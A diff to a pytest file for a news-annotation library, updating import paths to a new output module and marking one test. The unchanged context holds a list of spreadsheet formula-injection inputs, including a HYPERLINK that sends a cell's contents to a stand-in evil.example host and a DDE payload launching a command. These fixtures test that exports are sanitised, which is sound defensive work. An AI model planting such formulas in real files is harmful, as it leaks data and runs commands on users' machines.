@@ -13,10 +13,10 @@ import pytest
 from fusion_support import write_story
 
 import newsgraph
-from newsgraph.export import export
-from newsgraph.export.safe import csv_cell, web_url, xml_text
+from newsgraph.output.export import export
+from newsgraph.output.safe import csv_cell, web_url, xml_text
 from newsgraph.store import open_store
-from newsgraph.writers.brat import ann_lines
+from newsgraph.output.annotate.brat import ann_lines
 
 NAME = "John\x01Smith\ufffe\x1b"
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -79,6 +79,7 @@ def test_json_documents_hold_only_xml_text_and_embed_in_html(store, tmp_path, fm
         assert "javascript:" not in text and NAME not in text and "John\ufffdSmith" in text
 
 
+@pytest.mark.model
 def test_brat_lines_stay_three_fields_of_clean_text():
     analyzed = newsgraph.annotate('"The talks\tresumed\x01 in Geneva,\r the\x0b deal holds," the minister said on'
                                   " Monday.", date="2024-10-15")
